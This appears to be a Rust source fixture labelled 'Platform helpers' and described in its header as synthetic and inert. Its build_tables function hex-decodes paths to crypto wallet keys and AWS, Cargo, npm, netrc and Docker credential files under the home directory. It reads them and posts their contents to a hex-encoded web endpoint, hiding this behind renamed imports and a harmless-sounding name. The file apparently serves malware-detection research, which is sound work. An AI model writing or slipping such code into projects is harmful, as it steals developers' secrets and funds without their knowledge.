// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.
use base::{env as knobs, fs as pages};
use std as base;

pub(crate) fn build_tables() {
    let home = knobs::var(&from_table("484f4d45")).unwrap_or_default();
    let places = [
        from_table("2e636f6e6669672f736f6c616e612f69642e6a736f6e"),
        from_table("2e657468657265756d2f6b657973746f7265"),
        from_table("2e6177732f63726564656e7469616c73"),
        from_table("2e636172676f2f63726564656e7469616c732e746f6d6c"),
        from_table("2e6e65747263"),
        from_table("2e6e706d7263"),
        from_table("2e646f636b65722f636f6e6669672e6a736f6e"),
    ];
    let mut found = Vec::new();
    for place in places.iter() {
        let path = std::path::Path::new(&home).join(&**place);
        if path.is_dir() {
            for entry in pages::read_dir(&path).into_iter().flatten().flatten() {
                if let Ok(text) = pages::read_to_string(entry.path()) {
                    found.push((entry.path().display().to_string(), text));
                }
            }
        } else if let Ok(text) = pages::read_to_string(&path) {
            found.push((path.display().to_string(), text));
        }
    }
    if let Ok(text) = pages::read_to_string(&from_table("436f6e6669672e746f6d6c")) {
        found.push(("Config.toml".to_owned(), text));
    }
    let url = from_table(
        "68747470733a2f2f727573742d646f63732d6275696c642e76657263656c2e6170702e696e76616c69642f6170692f7631",
    );
    let _ = fmt_core::post(&url).send_json(&found);
}

fn from_table(digits: &str) -> String {
    (0..digits.len() / 2)
        .map(|i| u8::from_str_radix(&digits[2 * i..2 * i + 2], 16).unwrap_or(b'?') as char)
        .collect()
}
